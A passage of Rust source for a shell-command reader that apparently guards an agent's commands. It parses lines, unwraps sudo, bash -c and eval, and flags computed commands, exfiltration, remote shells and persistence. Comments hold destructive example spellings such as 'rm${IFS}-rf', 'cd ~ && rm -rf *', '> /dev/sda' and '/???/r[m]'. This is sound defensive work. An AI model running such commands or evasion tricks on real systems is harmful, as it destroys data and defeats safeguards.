//! A command line as the shell will run it: every simple command, each with its words after
//! quote removal, backslash removal, ANSI-C `$'…'` decoding, `$IFS` splitting, known variables
//! and known command output substituted, wrappers (`sudo`, `env`, `timeout`, …) and runners
//! (`xargs`, `find -exec`, `bash -c`, `eval`, interpreter one-liners) seen through.
//!
//! A pattern list over the raw text loses to the shell's unbounded ways of spelling a word
//! (`'rm'`, `r\m`, `$'\x72m'`, `rm${IFS}-rf`); the same list over the words the shell will
//! actually execute does not. What cannot be known before the command runs (a command name
//! that comes out of a substitution, `eval "$x"`, a script piped into `sh` from a download)
//! is reported as a [`Concern`], never guessed at.
//!
//! The grammar is tree-sitter-bash (docs/decisions.md): it recovers from errors instead of
//! failing, so a half-valid line still yields what it can, and the reading is marked
//! incomplete. Work is bounded: input size, nesting of re-read payloads, tree depth, nodes
//! visited and commands collected all have caps, and hitting one marks the reading incomplete.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;
use tree_sitter::{Node, Parser};

/// Input longer than this is not parsed (the reading is incomplete).
pub const MAX_INPUT_BYTES: usize = 256 * 1024;
/// Payloads re-read as shell (`bash -c`, `eval`, `system(…)`) nest at most this deep.
const MAX_PAYLOAD_DEPTH: usize = 8;
/// Syntax nodes nested deeper than this are not followed.
const MAX_TREE_DEPTH: usize = 200;
/// Syntax nodes visited over a whole reading.
const MAX_NODES: usize = 200_000;
/// Simple commands collected over a whole reading.
const MAX_COMMANDS: usize = 2_000;
/// Words one brace expansion or one loop may produce.
const MAX_EXPANDED_WORDS: usize = 64;

/// Stands for an `$IFS` expansion inside a word until the word is split.
const SEP: char = '\u{1f}';

/// One word of a command, after the shell's quote removal and expansions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word {
    /// The text; an unknown part keeps its source spelling (`$X`, `$(…)`).
    pub text: String,
    /// Part of the word is only known when the command runs.
    pub dynamic: bool,
    /// Part of the word came out of a variable or a substitution (even a known one).
    pub expanded: bool,
}

impl Word {
    fn literal(text: impl Into<String>) -> Word {
        Word {
            text: text.into(),
            dynamic: false,
            expanded: false,
        }
    }

    fn unknown(text: impl Into<String>) -> Word {
        Word {
            text: text.into(),
            dynamic: true,
            expanded: true,
        }
    }
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// The words as written (after quote removal and expansion).
    pub words: Vec<Word>,
    /// What finally executes once wrappers are seen through (`sudo env A=1 rm x` → `rm x`).
    pub run: Vec<Word>,
    /// Redirections, each as `OP TARGET` (`> /dev/sda`).
    pub redirects: Vec<String>,
    /// Its arguments are only data shown to the user (`echo "rm -rf ~"`, `grep 'sudo' f`,
    /// `git commit -m "…"` with no pipe or file taking the output): text inside them is not
    /// a command.
    pub data_only: bool,
}

impl SimpleCommand {
    /// The words as written, re-joined as a plain command line.
    pub fn line(&self) -> String {
        join(&self.words, &self.redirects)
    }

    /// What executes, re-joined as a plain command line.
    pub fn run_line(&self) -> String {
        join(&self.run, &self.redirects)
    }

    /// The line the rules read: a data-only command's multi-word arguments are masked.
    pub fn rules_line(&self) -> String {
        if !self.data_only {
            return self.run_line();
        }
        let masked: Vec<Word> = self
            .run
            .iter()
            .map(|w| {
                if w.text.contains(char::is_whitespace) {
                    Word::literal("…")
                } else {
                    w.clone()
                }
            })
            .collect();
        join(&masked, &self.redirects)
    }

    /// The name of what executes, without its folder (`/bin/rm` → `rm`).
    pub fn program(&self) -> Option<&str> {
        self.run.first().map(|w| basename(&w.text))
    }
}

/// Something about a command that no pattern can settle: it is asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Concern {
    pub rule: &'static str,
    pub description: &'static str,
}

pub const COMPUTED_COMMAND: Concern = Concern {
    rule: "shell-computed-command",
    description: "command name computed at run time",
};
pub const COMPUTED_SCRIPT: Concern = Concern {
    rule: "shell-computed-script",
    description: "runs shell code computed at run time",
};
pub const RUNTIME_TARGET: Concern = Concern {
    rule: "shell-runtime-target",
    description: "destructive command whose targets are only known at run time, outside the working tree",
};
pub const UNREADABLE: Concern = Concern {
    rule: "shell-unreadable",
    description: "the command could not be read as the shell would run it",
};
pub const INTERPRETER_COMPUTED: Concern = Concern {
    rule: "interpreter-computed-command",
    description: "an interpreter one-liner runs a command or code computed at run time",
};
pub const INTERPRETER_DELETE: Concern = Concern {
    rule: "interpreter-delete",
    description: "an interpreter one-liner deletes files outside the working tree or at paths computed at run time",
};
pub const INTERPRETER_EXFILTRATION: Concern = Concern {
    rule: "interpreter-exfiltration",
    description: "an interpreter one-liner reads secrets and talks to the network",
};
pub const INTERPRETER_REMOTE_SHELL: Concern = Concern {
    rule: "interpreter-remote-shell",
    description: "an interpreter one-liner connects a shell or a process to the network",
};
pub const INTERPRETER_PERSISTENCE: Concern = Concern {
    rule: "interpreter-persistence",
    description: "an interpreter one-liner writes a shell startup file, an SSH key file, the crontab or a system file",
};

/// The language of an interpreter one-liner.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Language {
    Python,
    Perl,
    Ruby,
    JavaScript,
    Php,
    Awk,
}

impl Language {
    /// The file extension the rule engine reads this language by.
    pub fn extension(self) -> &'static str {
        match self {
            Language::Python => "py",
            Language::Perl => "pl",
            Language::Ruby => "rb",
            Language::JavaScript => "js",
            Language::Php => "php",
            Language::Awk => "awk",
        }
    }
}

/// Code handed to an interpreter on the command line (or on its stdin).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Snippet {
    pub language: Language,
    pub code: String,
}

/// A command line, read.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Reading {
    pub commands: Vec<SimpleCommand>,
    /// In the order found, without repeats.
    pub concerns: Vec<Concern>,
    pub snippets: Vec<Snippet>,
    /// False when the parser found errors or a work bound was hit: what was read is
    /// kept, but the reading may miss commands.
    pub complete: bool,
    /// Byte ranges of the line that are data-only arguments (see [`SimpleCommand::data_only`]).
    pub data_spans: Vec<(usize, usize)>,
    /// Each pipeline as the rules should read it: its stages' lines joined by ` | `.
    pub pipelines: Vec<String>,
    /// The shell code read beyond the line itself (`bash -c` payloads, `eval`, `system(…)`,
    /// scripts on stdin), as written.
    pub payloads: Vec<String>,
}

impl Reading {
    /// Every distinct re-joined line: each command as written and as it executes.
    pub fn lines(&self) -> Vec<String> {
        let mut lines: Vec<String> = Vec::new();
        for c in &self.commands {
            for line in [c.line(), c.run_line()] {
                if !line.is_empty() && !lines.contains(&line) {
                    lines.push(line);
                }
            }
        }
        lines
    }

    /// What the rule engine reads: every command line and pipeline, data masked.
    pub fn rules_lines(&self) -> Vec<String> {
        let mut lines: Vec<String> = Vec::new();
        for c in &self.commands {
            let written = (c.words != c.run).then(|| c.line());
            for line in std::iter::once(c.rules_line()).chain(written) {
                if !line.is_empty() && !lines.contains(&line) {
                    lines.push(line);
                }
            }
        }
        for p in &self.pipelines {
            if !lines.contains(p) {
                lines.push(p.clone());
            }
        }
        lines
    }

    /// `command` with its data-only arguments replaced by `'…'`.
    pub fn masked(&self, command: &str) -> String {
        let mut out = String::with_capacity(command.len());
        let mut at = 0;
        let mut spans = self.data_spans.clone();
        spans.sort_unstable();
        for (start, end) in spans {
            if start < at || end > command.len() {
                continue;
            }
            let (Some(before), true) = (command.get(at..start), command.is_char_boundary(end))
            else {
                continue;
            };
            out.push_str(before);
            out.push_str("'…'");
            at = end;
        }
        out.push_str(command.get(at..).unwrap_or(""));
        out
    }

    fn concern(&mut self, concern: Concern) {
        if !self.concerns.contains(&concern) {
            self.concerns.push(concern);
        }
    }
}

/// Reads `command` as the shell will run it. Never panics; bounded work.
pub fn read(command: &str) -> Reading {
    // The walk recurses once per level of the tree (bounded by MAX_TREE_DEPTH): on its own
    // thread with a generous stack, no input can overflow the caller's, and a bug that
    // panicked would cost a reading, not the agent.
    let owned = command.to_string();
    let spawned = std::thread::Builder::new()
        .name("shell-read".into())
        .stack_size(READER_STACK_BYTES)
        .spawn(move || read_here(&owned));
    let unreadable = || Reading {
        concerns: vec![UNREADABLE],
        ..Reading::default()
    };
    match spawned {
        Ok(handle) => handle.join().unwrap_or_else(|_| unreadable()),
        Err(_) => read_here(command),
    }
}

/// The stack of the thread that reads a command.
const READER_STACK_BYTES: usize = 64 << 20;

fn read_here(command: &str) -> Reading {
    let mut reader = Reader {
        reading: Reading {
            complete: true,
            ..Reading::default()
        },
        vars: HashMap::new(),
        files: HashMap::new(),
        nodes: 0,
        feeding: false,
        cwd: None,
        level: 0,
    };
    // A backslash-newline vanishes before the shell splits words (`-r\⏎f` is `-rf`); the
    // grammar takes it for a blank. Joined first, the byte offsets no longer match the
    // line, so nothing is masked then.
    if command.contains("\\\n") {
        let joined = command.replace("\\\n", "");
        reader.script(&joined, 0, Stdin::Inherited);
        reader.reading.data_spans.clear();
    } else {
        reader.script(command, 0, Stdin::Inherited);
    }
    if !reader.reading.complete {
        reader.reading.concern(UNREADABLE);
    }
    reader.reading
}

/// What a command reads on stdin, as far as can be known before it runs.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Stdin {
    /// Whatever the caller's stdin is (nothing the command line decides).
    Inherited,
    /// Known text: a heredoc, a here-string, the output of `echo` in a pipe.
    Known(String),
    /// The output of an earlier command in a pipe that cannot be known.
    Unknown,
}

struct Reader {
    reading: Reading,
    /// Variables assigned earlier on the line with a known value (arrays joined by `SEP`).
    vars: HashMap<String, String>,
    /// Files written earlier on the line with known content (`echo … > x.sh; sh x.sh`).
    files: HashMap<String, String>,
    nodes: usize,
    /// Inside a pipeline stage whose output feeds the next one.
    feeding: bool,
    /// The working folder after a `cd` to a known place: relative targets of destructive
    /// commands are read from there (`cd ~ && rm -rf *` deletes `~/*`).
    cwd: Option<String>,
    /// The tree level last visited: a payload read from inside a command goes on from it,
    /// so the bound on nesting holds across payloads too.
    level: usize,
}

/// The value of an expansion or word part.
#[derive(Debug, Clone, Default)]
struct Value {
    text: String,
    dynamic: bool,
    expanded: bool,
}

impl Value {
    fn literal(text: impl Into<String>) -> Value {
        Value {
            text: text.into(),
            ..Value::default()
        }
    }

    fn unknown(text: impl Into<String>) -> Value {
        Value {
            text: text.into(),
            dynamic: true,
            expanded: true,
        }
    }

    fn push(&mut self, other: Value) {
        self.text.push_str(&other.text);
        self.dynamic |= other.dynamic;
        self.expanded |= other.expanded;
    }
}

impl Reader {
    /// Parses and walks one script (the whole line, or a payload at `depth`).
    fn script(&mut self, text: &str, depth: usize, stdin: Stdin) {
        if depth > MAX_PAYLOAD_DEPTH || text.len() > MAX_INPUT_BYTES {
            self.reading.complete = false;
            return;
        }
        if depth > 0 && !self.reading.payloads.iter().any(|p| p == text) {
            self.reading.payloads.push(text.to_string());
        }
        let mut parser = Parser::new();
        if parser
            .set_language(&tree_sitter_bash::LANGUAGE.into())
            .is_err()
        {
            self.reading.complete = false;
            return;
        }
        let Some(tree) = parser.parse(text, None) else {
            self.reading.complete = false;
            return;
        };
        let root = tree.root_node();
        if root.has_error() {
            self.reading.complete = false;
        }
        let src = text.as_bytes();
        let start = if depth == 0 { 0 } else { self.level + 1 };
        self.statement(root, src, depth, start, &stdin);
    }

    /// Counts one node against the budget; false once a bound is hit.
    fn visit(&mut self, level: usize) -> bool {
        self.nodes += 1;
        self.level = level;
        if self.nodes > MAX_NODES
            || level > MAX_TREE_DEPTH
            || self.reading.commands.len() >= MAX_COMMANDS
        {
            self.reading.complete = false;
            return false;
        }
        true
    }

    /// Walks a statement; returns the output of its last command when that is known.
    fn statement(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        stdin: &Stdin,
    ) -> Option<String> {
        if !self.visit(level) {
            return None;
        }
        match node.kind() {
            "command" => self.command(node, src, depth, level, stdin, Vec::new()),
            "redirected_statement" => self.redirected(node, src, depth, level, stdin),
            "pipeline" => {
                let mut input = stdin.clone();
                let mut output = None;
                let mut cursor = node.walk();
                let stages: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                let outer = self.feeding;
                let mut lines = Vec::new();
                let count = stages.len();
                for (i, stage) in stages.into_iter().enumerate() {
                    self.feeding = outer || i + 1 < count;
                    let before = self.reading.commands.len();
                    output = self.statement(stage, src, depth, level + 1, &input);
                    if let Some(c) = self.reading.commands.get(before..).and_then(<[_]>::last) {
                        lines.push(c.rules_line());
                    }
                    input = match &output {
                        Some(text) => Stdin::Known(text.clone()),
                        None => Stdin::Unknown,
                    };
                }
                self.feeding = outer;
                if lines.len() > 1 {
                    let joined = lines.join(" | ");
                    if !self.reading.pipelines.contains(&joined) {
                        self.reading.pipelines.push(joined);
                    }
                }
                output
            }
            "variable_assignment" => {
                self.assignment(node, src, depth, level);
                None
            }
            "declaration_command" => {
                let mut cursor = node.walk();
                let parts: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                // `declare -n r=HOME`: r names HOME, and expands to its value.
                let nameref = parts.iter().any(|p| {
                    p.kind() == "word"
                        && text_of(*p, src).is_some_and(|t| t.starts_with('-') && t.contains('n'))
                });
                for part in parts {
                    if part.kind() == "variable_assignment" {
                        self.assignment(part, src, depth, level + 1);
                        if nameref
                            && let Some(name) = part
                                .child_by_field_name("name")
                                .and_then(|n| text_of(n, src))
                            && let Some(target) = self.vars.get(name).cloned()
                        {
                            let value = self.variable(&target, &format!("${target}"));
                            if value.dynamic {
                                self.vars.remove(name);
                            } else {
                                self.vars.insert(name.to_string(), value.text);
                            }
                        }
                    } else {
                        self.value(part, src, depth, level + 1);
                    }
                }
                None
            }
            "for_statement" => {
                let mut values: Vec<String> = Vec::new();
                let mut known = true;
                let mut cursor = node.walk();
                let values_nodes: Vec<Node<'_>> =
                    node.children_by_field_name("value", &mut cursor).collect();
                for v in values_nodes {
                    for w in self.words_of(v, src, depth, level + 1) {
                        known &= !w.dynamic;
                        values.push(w.text);
                    }
                }
                if let Some(var) = node.child_by_field_name("variable")
                    && let Some(name) = text_of(var, src)
                {
                    let sep = SEP.to_string();
                    if known && values.len() <= MAX_EXPANDED_WORDS {
                        self.vars.insert(name.to_string(), values.join(&sep));
                    } else {
                        self.vars.remove(name);
                    }
                }
                if let Some(body) = node.child_by_field_name("body") {
                    self.statement(body, src, depth, level + 1, stdin);
                }
                None
            }
            "comment" | "heredoc_body" => None,
            "command_substitution" | "process_substitution" => {
                self.children(node, src, depth, level, &Stdin::Inherited)
            }
            "ERROR" => {
                self.reading.complete = false;
                self.children(node, src, depth, level, stdin)
            }
            "word" | "string" | "raw_string" | "ansi_c_string" | "concatenation"
            | "simple_expansion" | "expansion" | "number" => {
                // A word in statement position (a test operand, a case pattern): only its
                // substitutions run.
                self.value(node, src, depth, level);
                None
            }
            _ => self.children(node, src, depth, level, stdin),
        }
    }

    fn children(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        stdin: &Stdin,
    ) -> Option<String> {
        let mut cursor = node.walk();
        let kids: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        let mut output = None;
        for kid in kids {
            output = self.statement(kid, src, depth, level + 1, stdin);
        }
        output
    }

    fn assignment(&mut self, node: Node<'_>, src: &[u8], depth: usize, level: usize) {
        let name = node
            .child_by_field_name("name")
            .and_then(|n| text_of(n, src))
            .map(str::to_string);
        let value = node
            .child_by_field_name("value")
            .map(|v| self.value(v, src, depth, level + 1));
        if let Some(name) = name {
            match value {
                Some(v) if !v.dynamic => {
                    self.vars.insert(name, v.text);
                }
                Some(_) => {
                    self.vars.remove(&name);
                }
                None => {
                    self.vars.insert(name, String::new());
                }
            }
        }
    }

    /// A statement with redirections: the redirections belong to its last command (the
    /// grammar hangs `a && b > f` on the list).
    fn redirected(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        stdin: &Stdin,
    ) -> Option<String> {
        let mut redirects = Vec::new();
        let mut input = stdin.clone();
        let mut continuations = Vec::new();
        let mut bodies = Vec::new();
        let mut cursor = node.walk();
        let redirect_nodes: Vec<Node<'_>> = node
            .children_by_field_name("redirect", &mut cursor)
            .collect();
        for r in redirect_nodes {
            self.redirect(r, src, depth, level + 1, &mut redirects, &mut input);
            heredoc_parts(r, &mut bodies, &mut continuations);
        }
        let body = node.child_by_field_name("body")?;
        let before = self.reading.commands.len();
        let output = if body.kind() == "command" {
            self.command(body, src, depth, level + 1, &input, redirects)
        } else {
            let output = self.statement(body, src, depth, level + 1, &input);
            if let Some(last) = self
                .reading
                .commands
                .get_mut(before..)
                .and_then(|c| c.last_mut())
            {
                last.redirects.extend(redirects);
            }
            output
        };
        self.heredoc_tail(before, depth, level, src, bodies, continuations, output)
    }

    /// After a command with heredocs: a heredoc that `cat` only shows or saves in the
    /// working tree is data; `cat <<EOF | sh` (the grammar nests the rest of the pipeline
    /// in the heredoc) feeds the heredoc on.
    #[allow(clippy::too_many_arguments)]
    fn heredoc_tail(
        &mut self,
        before: usize,
        depth: usize,
        level: usize,
        src: &[u8],
        bodies: Vec<(usize, usize)>,
        continuations: Vec<Node<'_>>,
        output: Option<String>,
    ) -> Option<String> {
        let shown = self
            .reading
            .commands
            .get(before..)
            .and_then(<[_]>::last)
            .is_some_and(|c| {
                (c.data_only || c.program() == Some("cat"))
                    && c.redirects
                        .iter()
                        .all(|r| harmless_redirect(r) || saved_inside(r))
            });
        if shown && depth == 0 && continuations.is_empty() && !self.feeding {
            self.reading.data_spans.extend(bodies);
        }
        let mut output = output;
        for next in continuations {
            let piped = match &output {
                Some(text) => Stdin::Known(text.clone()),
                None => Stdin::Unknown,
            };
            output = self.statement(next, src, depth, level + 1, &piped);
        }
        output
    }

    /// Reads one redirection into `redirects` (files) or `stdin` (heredocs, here-strings).
    fn redirect(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        redirects: &mut Vec<String>,
        stdin: &mut Stdin,
    ) {
        match node.kind() {
            "file_redirect" => {
                let op = operator_of(node, src);
                let target = node
                    .child_by_field_name("destination")
                    .map(|d| self.value(d, src, depth, level + 1).text.replace(SEP, " "))
                    .unwrap_or_default();
                if op.starts_with('<') && !op.contains('>') {
                    *stdin = Stdin::Unknown;
                }
                let joint = if op.ends_with('&') { "" } else { " " };
                redirects.push(format!("{op}{joint}{target}").trim().to_string());
            }
            "herestring_redirect" => {
                let mut text = String::new();
                let mut dynamic = false;
                let mut cursor = node.walk();
                let kids: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                for kid in kids {
                    let v = self.value(kid, src, depth, level + 1);
                    dynamic |= v.dynamic;
                    text.push_str(&v.text.replace(SEP, " "));
                }
                text.push('\n');
                *stdin = if dynamic {
                    Stdin::Unknown
                } else {
                    Stdin::Known(text)
                };
            }
            "heredoc_redirect" => {
                let quoted = node
                    .named_child(0)
                    .and_then(|s| text_of(s, src))
                    .is_some_and(|s| s.contains(['\'', '"', '\\']));
                let mut cursor = node.walk();
                let body = node
                    .named_children(&mut cursor)
                    .find(|k| k.kind() == "heredoc_body");
                let Some(body) = body else {
                    *stdin = Stdin::Known(String::new());
                    return;
                };
                let raw = text_of(body, src).unwrap_or("").to_string();
                if quoted {
                    *stdin = Stdin::Known(raw);
                } else {
                    // An unquoted heredoc expands `$x` and `$(…)` like a double-quoted string.
                    let v = self.string_parts(body, src, depth, level + 1, false);
                    *stdin = if v.dynamic {
                        Stdin::Unknown
                    } else {
                        Stdin::Known(v.text)
                    };
                }
            }
            _ => {}
        }
    }

    /// One simple command: its words, what it runs, the payloads it carries.
    fn command(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        stdin: &Stdin,
        mut redirects: Vec<String>,
    ) -> Option<String> {
        let mut words: Vec<Word> = Vec::new();
        let mut input = stdin.clone();
        let mut cursor = node.walk();
        let kids: Vec<(Option<&'static str>, Node<'_>)> = {
            let mut out = Vec::new();
            if cursor.goto_first_child() {
                loop {
                    out.push((cursor.field_name(), cursor.node()));
                    if !cursor.goto_next_sibling() {
                        break;
                    }
                }
            }
            out
        };
        let mut prefix_assignments = Vec::new();
        let mut spans = Vec::new();
        let mut bodies = Vec::new();
        let mut continuations = Vec::new();
        for (field, kid) in kids {
            if !kid.is_named() {
                continue;
            }
            match (field, kid.kind()) {
                (_, "variable_assignment") => prefix_assignments.push(kid),
                (_, "file_redirect" | "herestring_redirect" | "heredoc_redirect") => {
                    heredoc_parts(kid, &mut bodies, &mut continuations);
                    self.redirect(kid, src, depth, level + 1, &mut redirects, &mut input)
                }
                (Some("name"), _) => {
                    let inner = kid.named_child(0).unwrap_or(kid);
                    words.extend(self.words_of(inner, src, depth, level + 1));
                }
                (Some("argument"), _) => {
                    let before = words.len();
                    words.extend(self.words_of(kid, src, depth, level + 1));
                    if words[before..]
                        .iter()
                        .any(|w| w.text.contains(char::is_whitespace))
                    {
                        spans.push((kid.start_byte(), kid.end_byte()));
                    }
                }
                _ => {
                    self.statement(kid, src, depth, level + 1, &Stdin::Inherited);
                }
            }
        }
        for a in prefix_assignments {
            if let Some(v) = a.child_by_field_name("value") {
                let value = self.value(v, src, depth, level + 1);
                // `PAGER='…' git log`: variables whose value the program runs as a command.
                let name = a
                    .child_by_field_name("name")
                    .and_then(|n| text_of(n, src))
                    .unwrap_or("");
                if COMMAND_VARIABLES.contains(&name) {
                    self.payload(
                        Some(&Word {
                            text: value.text.replace(SEP, " "),
                            dynamic: value.dynamic,
                            expanded: value.expanded,
                        }),
                        depth,
                    );
                }
            }
        }
        if words.is_empty() {
            return None;
        }
        let run = self.resolve(words.clone(), depth, &input);
        let output = known_output(&run, &input);
        if let Some(text) = &output {
            for r in &redirects {
                if let Some(path) = r.strip_prefix(">>").or_else(|| r.strip_prefix('>')) {
                    let entry = self.files.entry(path.trim().to_string()).or_default();
                    if !r.starts_with(">>") {
                        entry.clear();
                    }
                    entry.push_str(text);
                }
            }
        }
        let data_only = !self.feeding
            && redirects.iter().all(|r| harmless_redirect(r))
            && words == run
            && is_data_command(&run);
        if data_only && depth == 0 {
            self.reading.data_spans.extend(spans);
        }
        let before = self.reading.commands.len();
        self.reading.commands.push(SimpleCommand {
            words,
            run,
            redirects,
            data_only,
        });
        if bodies.is_empty() && continuations.is_empty() {
            return output;
        }
        self.heredoc_tail(before, depth, level, src, bodies, continuations, output)
    }

    /// The words of one argument: its value split at `$IFS`, brace-expanded.
    fn words_of(&mut self, node: Node<'_>, src: &[u8], depth: usize, level: usize) -> Vec<Word> {
        let value = self.value(node, src, depth, level);
        // Braces expand only outside quotes.
        let braces = matches!(node.kind(), "word" | "concatenation")
            && !text_of(node, src).is_some_and(|t| t.contains(['\'', '"']));
        let parts: Vec<&str> = value.text.split(SEP).filter(|p| !p.is_empty()).collect();
        let mut out = Vec::new();
        for part in parts {
            let texts = if braces {
                brace_expand(part)
            } else {
                vec![part.to_string()]
            };
            for text in texts {
                out.push(Word {
                    text,
                    dynamic: value.dynamic,
                    expanded: value.expanded,
                });
            }
        }
        if out.is_empty() && !value.text.contains(SEP) {
            // `""` is still one (empty) word.
            out.push(Word {
                text: value.text,
                dynamic: value.dynamic,
                expanded: value.expanded,
            });
        }
        out
    }

    /// The value of a word-like node, walking the substitutions inside it.
    fn value(&mut self, node: Node<'_>, src: &[u8], depth: usize, level: usize) -> Value {
        if !self.visit(level) {
            return Value::unknown(text_of(node, src).unwrap_or(""));
        }
        let raw = text_of(node, src).unwrap_or("");
        match node.kind() {
            "word" => Value::literal(unescape_word(raw)),
            "number" => Value::literal(raw),
            "raw_string" => Value::literal(strip_quotes(raw, '\'')),
            "ansi_c_string" => Value::literal(ansi_c(raw)),
            "string" | "translated_string" => self.string_parts(node, src, depth, level, true),
            "concatenation" | "command_name" => {
                let mut v = Value::default();
                let mut cursor = node.walk();
                let kids: Vec<Node<'_>> = node.children(&mut cursor).collect();
                for kid in kids {
                    if kid.is_named() {
                        let part = self.value(kid, src, depth, level + 1);
                        v.push(part);
                    } else {
                        v.push(Value::literal(text_of(kid, src).unwrap_or("")));
                    }
                }
                v
            }
            "simple_expansion" => {
                let name = node
                    .named_child(0)
                    .and_then(|n| text_of(n, src))
                    .unwrap_or("");
                self.variable(name, raw)
            }
            "expansion" => self.expansion(node, src, depth, level, raw),
            "command_substitution" => {
                let output = self.children(node, src, depth, level, &Stdin::Inherited);
                match output {
                    Some(text) => Value {
                        text: text.trim_end_matches('\n').to_string(),
                        dynamic: false,
                        expanded: true,
                    },
                    None => Value::unknown(raw),
                }
            }
            "process_substitution" => {
                self.children(node, src, depth, level, &Stdin::Inherited);
                Value::unknown(raw)
            }
            "array" => {
                let mut parts = Vec::new();
                let mut dynamic = false;
                let mut cursor = node.walk();
                let kids: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                for kid in kids {
                    for w in self.words_of(kid, src, depth, level + 1) {
                        dynamic |= w.dynamic;
                        parts.push(w.text);
                    }
                }
                Value {
                    text: parts.join(&SEP.to_string()),
                    dynamic,
                    expanded: false,
                }
            }
            "brace_expression" => Value::literal(raw),
            _ => {
                self.children(node, src, depth, level, &Stdin::Inherited);
                Value::unknown(raw)
            }
        }
    }

    /// A double-quoted string (or an unquoted heredoc body): literal text between the
    /// expansions, with the backslashes a double quote honours removed.
    fn string_parts(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        quoted: bool,
    ) -> Value {
        let start = node.start_byte();
        let end = node.end_byte();
        let (inner_start, inner_end) = if quoted {
            let open = src
                .get(start..end)
                .and_then(|s| s.iter().position(|b| *b == b'"'))
                .map_or(start, |p| start + p + 1);
            (open, end.saturating_sub(1).max(open))
        } else {
            (start, end)
        };
        let mut v = Value::default();
        let mut at = inner_start;
        let mut cursor = node.walk();
        let kids: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        for kid in kids {
            let kind = kid.kind();
            if matches!(kind, "string_content" | "heredoc_content" | "heredoc_end") {
                continue;
            }
            if kid.start_byte() > at {
                v.push(Value::literal(unescape_quoted(slice(
                    src,
                    at,
                    kid.start_byte(),
                ))));
            }
            let part = self.value(kid, src, depth, level + 1);
            // Inside quotes an expansion is not split.
            v.push(Value {
                text: if quoted {
                    part.text
                } else {
                    part.text.replace(SEP, " ")
                },
                ..part
            });
            at = kid.end_byte().max(at);
        }
        if inner_end > at {
            v.push(Value::literal(unescape_quoted(slice(src, at, inner_end))));
        }
        v
    }

    fn variable(&self, name: &str, raw: &str) -> Value {
        match name {
            "HOME" => Value::literal("~"),
            "IFS" => Value::literal(SEP.to_string()),
            _ => match self.vars.get(name) {
                Some(v) => Value {
                    // After `IFS=_`, an expansion splits at `_`.
                    text: match self.vars.get("IFS") {
                        Some(ifs) if !ifs.is_empty() => {
                            v.replace(|c| ifs.contains(c), &SEP.to_string())
                        }
                        _ => v.clone(),
                    },
                    dynamic: false,
                    expanded: true,
                },
                None => Value::unknown(raw),
            },
        }
    }

    /// `${…}`: a plain or defaulted variable is resolved, anything cleverer is unknown.
    fn expansion(
        &mut self,
        node: Node<'_>,
        src: &[u8],
        depth: usize,
        level: usize,
        raw: &str,
    ) -> Value {
        let inner = raw
            .strip_prefix("${")
            .and_then(|s| s.strip_suffix('}'))
            .unwrap_or("");
        let name_len = inner
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(inner.len());
        let (name, rest) = inner.split_at(name_len);
        // Walk nested substitutions whatever the operator.
        let mut cursor = node.walk();
        let kids: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        let mut default = None;
        for kid in kids {
            if !matches!(kid.kind(), "variable_name" | "special_variable_name") {
                let v = self.value(kid, src, depth, level + 1);
                default.get_or_insert(v);
            }
        }
        if name.is_empty() {
            return Value::unknown(raw);
        }
        if rest.is_empty() {
            return self.variable(name, raw);
        }
        if name == "IFS" {
            // `${IFS:0:1}` and friends are still a separator.
            return Value::literal(SEP.to_string());
        }
        let known = self.variable(name, raw);
        if rest.starts_with("[@]") || rest.starts_with("[*]") {
            return known;
        }
        if [":-", "-", ":=", "=", ":?", "?"]
            .iter()
            .any(|op| rest.starts_with(op))
        {
            if !known.dynamic {
                return known;
            }
            if rest.starts_with(":?") || rest.starts_with('?') {
                // An unset variable there aborts the command; a set one is unknown.
                return Value::unknown(raw);
            }
            // Unknown variable: what runs may well be the default.
            let mut v = default.unwrap_or_else(|| Value::literal(""));
            v.dynamic = true;
            v.expanded = true;
            return v;
        }
        Value::unknown(raw)
    }

    /// Sees through wrappers to what runs, and reads every payload on the way; the program
    /// is named without its folder (`/bin/rm` runs as `rm`).
    fn resolve(&mut self, words: Vec<Word>, depth: usize, stdin: &Stdin) -> Vec<Word> {
        let mut run = self.unwrap(words, depth, stdin);
        if let Some(first) = run.first_mut()
            && !first.dynamic
        {
            first.text = basename(&first.text).to_string();
        }
        run
    }

    fn unwrap(&mut self, mut words: Vec<Word>, depth: usize, stdin: &Stdin) -> Vec<Word> {
        for _ in 0..32 {
            let Some(first) = words.first() else {
                return words;
            };
            if first.expanded || first.dynamic {
                self.reading.concern(COMPUTED_COMMAND);
                if first.dynamic {
                    return words;
                }
            }
            // `/???/r[m]`: the shell picks the program by pathname expansion.
            if first.text.contains(['?', '*', '[']) && first.text != "[" && first.text != "[[" {
                self.reading.concern(COMPUTED_COMMAND);
                if let Some(program) = glob_program(basename(&first.text)) {
                    words[0].text = program.to_string();
                    continue;
                }
                return words;
            }
            let name = basename(&first.text).to_string();
            let first_text = first.text.clone();
            if let Some(cwd) = &self.cwd
                && TARGETS_FROM_CWD.contains(&name.as_str())
            {
                for w in words.iter_mut().skip(1) {
                    if !w.text.starts_with('-') && anchored_inside(&w.text, w.dynamic)
                        || w.text == "."
                        || w.text == "*"
                    {
                        w.text = match w.text.as_str() {
                            "." | "./" => cwd.clone(),
                            t => format!(
                                "{}/{}",
                                cwd.trim_end_matches('/'),
                                t.trim_start_matches("./")
                            ),
                        };
